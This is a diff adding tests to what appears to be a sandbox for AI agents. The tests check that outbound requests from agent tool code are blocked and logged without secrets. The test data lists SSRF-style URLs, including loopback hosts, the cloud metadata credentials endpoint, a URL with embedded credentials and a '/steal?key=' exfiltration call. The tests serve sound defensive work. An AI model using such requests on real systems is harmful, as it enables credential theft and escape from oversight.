@@ -72,6 +72,48 @@ describe('the seal', () => {
     expect(r.error).toBeNull();
   });
 
+  const shapes = [
+    'http://127.0.0.1:9/',
+    'http://[::1]:8080/admin',
+    'http://localhost/',
+    'http://0.0.0.0:3000/',
+    'HTTPS://EXAMPLE.COM/UPPER',
+    'http://example.com./trailing-dot',
+    'http://xn--80ak6aa92e.com/',
+    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    'http://oneway.invalid/tools/send_email',
+    'http://r0-0.oneway.invalid/tools/send_email',
+    `https://example.com/${'a'.repeat(4000)}`,
+    'http://example.com:65535/?q=1#frag',
+  ];
+  it.each(shapes)('blocks %s', async (url) => {
+    const seen: string[] = [];
+    const r = await runPlanner(scenario, leaky(() => fetch(url).then(() => 'answered'), seen), { transport: 'msw' });
+    expect(seen).toEqual(['failed']);
+    expect(r.sandbox_escapes).toBe(1);
+    const e = r.events.find((x) => x.type === 'escape');
+    expect(e?.type === 'escape' && e.url).not.toContain('hunter2');
+  });
+
+  it('blocks node:http to a URL with credentials and records it without them', async () => {
+    const seen: string[] = [];
+    const r = await runPlanner(scenario, leaky(() => nodeRequest((cb) => httpGet('http://user:hunter2@internal.example.com/x', cb)), seen), { transport: 'msw' });
+    expect(seen).toEqual(['failed']);
+    expect(r.sandbox_escapes).toBe(1);
+    expect(JSON.stringify(r.events)).not.toContain('hunter2');
+  });
+
+  it("refuses a direct call to the run's own tool host without the harness's token", async () => {
+    const { Sandbox } = await import('../../harness/sandbox/sandbox.ts');
+    const { mswTransport } = await import('../../harness/sandbox/transport.ts');
+    const escapes: unknown[] = [];
+    const t = mswTransport(new Sandbox(scenario, 1), 'direct', (e) => escapes.push(e));
+    const res = await fetch(`http://${t.host}/tools/send_email`, { method: 'POST', body: JSON.stringify({ args: { to: 'x@y' } }) });
+    t.close();
+    expect(res.status).toBe(403);
+    expect(escapes).toHaveLength(1);
+  });
+
   it('records the escaping URL without its query string (where secrets travel)', async () => {
     const r = await runPlanner(scenario, leaky(() => fetch(`${origin}/steal?key=canary-secret`).then(() => 'answered'), []), { transport: 'msw' });
     const escape = r.events.find((e) => e.type === 'escape');
